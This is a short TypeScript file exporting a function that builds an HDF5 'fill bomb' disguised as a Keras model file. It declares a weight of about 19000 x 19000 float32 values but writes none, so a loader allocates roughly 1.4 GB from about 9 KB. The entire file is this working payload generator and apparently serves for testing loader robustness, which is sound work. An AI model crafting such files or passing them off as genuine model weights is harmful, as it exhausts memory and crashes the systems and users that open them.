import h5wasm from 'h5wasm/node';

/**
 * A Keras-looking .h5 of a few KB whose one weight declares `side` x `side` float32 values that were never
 * written: HDF5 stores no chunk for them and serves the fill value on reading, so whoever reads the weight
 * allocates side² x 4 bytes (twice: in the WASM heap and in the JS copy). side 19000: 1.4 GB from ~9 KB.
 */
export async function h5FillBomb(path: string, side = 19_000): Promise<void> {
  await h5wasm.ready;
  const f = new h5wasm.File(path, 'w');
  try {
    f.create_attribute('model_config', JSON.stringify({ class_name: 'Functional', config: { name: 'bomb', layers: [], input_layers: [], output_layers: [] } }));
    f.create_attribute('keras_version', '2.13.1');
    const weights = f.create_group('model_weights');
    weights.create_attribute('layer_names', ['conv1']);
    const layer = weights.create_group('conv1');
    layer.create_attribute('weight_names', ['conv1/kernel:0']);
    layer.create_group('conv1').create_dataset({ name: 'kernel:0', data: new Float32Array(16), shape: [4, 4], dtype: '<f', maxshape: [null, null], chunks: [4, 4] });
    const ds = f.get('model_weights/conv1/conv1/kernel:0') as unknown as { resize(shape: number[]): number };
    ds.resize([side, side]);
  } finally {
    f.close();
  }
}
